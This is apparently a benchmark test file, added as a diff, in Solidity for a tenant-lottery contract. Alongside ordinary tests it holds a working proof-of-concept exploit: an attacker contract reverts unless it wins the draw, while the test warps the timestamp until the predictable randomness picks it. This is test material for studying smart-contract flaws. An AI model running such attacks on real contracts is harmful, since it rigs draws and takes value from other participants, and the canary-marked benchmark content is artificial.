@@ -1,0 +1,122 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.5.17;
+
+import "./MillpondCottage.sol";
+
+// assay-canary-3b81a415-1376-45f5-85c4-878d4bfa79e0
+
+interface Vm {
+    function deal(address who, uint256 amount) external;
+    function warp(uint256 time) external;
+}
+
+contract Applicant {
+    MillpondCottage internal cottage;
+
+    constructor(MillpondCottage _cottage) public {
+        cottage = _cottage;
+    }
+
+    function() external payable {}
+
+    function offer(uint256 rent) public {
+        cottage.offer.value(rent)();
+    }
+
+    function takeBack() public {
+        cottage.takeBack();
+    }
+}
+
+// Ends the letting in a second in which the draw falls on itself, and in no other.
+contract Attacker is Applicant {
+    constructor(MillpondCottage _cottage) public Applicant(_cottage) {}
+
+    function run() external returns (bool) {
+        (bool done, ) = address(this).call(abi.encodeWithSelector(this.attempt.selector));
+        return done;
+    }
+
+    function attempt() external {
+        cottage.choose();
+        require(cottage.tenant() == address(this), "not in this second");
+    }
+}
+
+contract Proof {
+    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
+
+    MillpondCottage internal cottage;
+    Applicant[3] internal people;
+    Attacker internal clockwatcher;
+
+    function() external payable {}
+
+    function setUp() public {
+        vm.warp(1700000000);
+        cottage = new MillpondCottage();
+        cottage.open(2 ether, 6 ether);
+        for (uint256 i = 0; i < 3; i++) {
+            people[i] = new Applicant(cottage);
+            vm.deal(address(people[i]), 10 ether);
+        }
+        clockwatcher = new Attacker(cottage);
+        vm.deal(address(clockwatcher), 6 ether);
+        for (uint256 i = 0; i < 3; i++) people[i].offer(6 ether);
+    }
+
+    function test_Regular() public {
+        require(cottage.applicantCount() == 3, "three applicants");
+        (bool ok, ) = address(people[0]).call(abi.encodeWithSelector(people[0].offer.selector, 1 ether));
+        require(!ok, "above the ceiling");
+        (ok, ) = address(cottage).call(abi.encodeWithSelector(cottage.choose.selector));
+        require(!ok, "too early");
+        vm.warp(1700000000 + 22 days);
+        (ok, ) = address(people[1]).call(abi.encodeWithSelector(people[1].offer.selector, 1 ether));
+        require(!ok, "too late");
+
+        uint256 before = address(this).balance;
+        cottage.choose();
+        require(address(this).balance == before + 6 ether, "rent paid to the parish");
+        uint256 chosen = 0;
+        for (uint256 i = 0; i < 3; i++) {
+            if (cottage.tenant() == address(people[i])) {
+                chosen++;
+                continue;
+            }
+            people[i].takeBack();
+            require(address(people[i]).balance == 10 ether, "deposit returned");
+        }
+        require(chosen == 1 && address(cottage).balance == 0, "one tenant, nothing kept");
+        (ok, ) = address(cottage).call(abi.encodeWithSelector(cottage.open.selector, 1, 2));
+        require(!ok, "let already");
+        vm.warp(now + 366 days);
+        cottage.open(1 ether, 2 ether);
+        vm.warp(now + 22 days);
+        cottage.choose();
+        require(cottage.offersUntil() == 0, "nobody applied");
+        cottage.open(1 ether, 2 ether);
+    }
+
+    function exploit() public {
+        clockwatcher.offer(6 ether);
+        uint256 time = cottage.offersUntil();
+        for (uint256 i = 0; i < 4; i++) {
+            vm.warp(time + i);
+            if (clockwatcher.run()) break;
+        }
+    }
+
+    function test_Exploit() public {
+        exploit();
+        require(cottage.tenant() == address(clockwatcher), "somebody else");
+    }
+
+    function target() public view returns (address) {
+        return address(cottage);
+    }
+
+    function attacker() public view returns (address) {
+        return address(clockwatcher);
+    }
+}
